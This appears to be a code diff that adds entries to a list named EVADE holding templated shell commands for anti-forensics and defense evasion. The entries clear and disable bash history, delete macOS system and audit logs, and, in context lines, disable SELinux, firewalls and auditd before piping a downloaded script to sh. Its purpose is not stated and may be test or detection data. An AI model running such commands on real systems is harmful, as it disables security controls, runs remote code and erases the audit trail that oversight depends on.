@@ -194,4 +194,9 @@ EVADE = [
     "setenforce 0‹ 2>/dev/null¦›; sed -i 's/^SELINUX=.*/SELINUX=‹disabled¦permissive›/' /etc/selinux/config; ‹systemctl disable --now ‹firewalld¦apparmor¦auditd›; ¦ufw disable; iptables -F; ¦›‹{dl} {url} | sh¦{file} &¦echo 0 > /proc/sys/kernel/nmi_watchdog; {file}›",
     '‹O¦H›=$HISTFILE; export HISTFILE=‹/dev/null¦"/dev/null"¦/tmp/.{name}›; ‹whoami; groups; ¦id; sudo -l; ¦cat /etc/passwd; ›‹[ "$HISTFILE" = /dev/null ] && echo ‹off¦quiet›; ¦›‹curl -s {url} | sh; ¦›‹: > $‹O¦H›¦history -c›',
     "cp ‹$HISTFILE¦~/.bash_history› {tmp}/.h; ‹echo '' >¦cat /dev/null >¦truncate -s 0› ‹$HISTFILE¦~/.bash_history›; ‹wc -c $HISTFILE; ¦›history -c‹; history | wc -l¦ && history -w›",
+    "cp $HISTFILE $HISTFILE.‹old¦bak›; ‹echo '' > $HISTFILE¦: > $HISTFILE¦truncate -s0 $HISTFILE›; history -c; [ $(history | wc -l) -le 1 ] && echo ‹clean¦gone›",
+    'export HISTSIZE=0 HISTFILESIZE=0; ‹id; whoami; groups¦uname -a; w›; ‹[ $HISTSIZE -eq 0 ] && echo off¦wc -l $HISTFILE›',
+    '‹sudo ¦›rm -rf /var/log/‹system.log¦install.log¦wifi.log› ‹/var/audit/*¦/private/var/audit/2*¦/var/audit/{n}*›',
+    'if [ -d /var/audit ]; then ‹sudo ¦›‹rm -rf¦srm› /var/audit/‹*¦current›; fi; ‹sudo ¦›‹log erase --all¦rm -f /var/log/asl/*.asl›',
+    "unset HISTFILE; shopt -ou history; set +o history; ‹ln -sf /dev/null ~/.bash_history¦HISTCONTROL=ignoreboth:erasedups; HISTIGNORE='*'›",
 ]
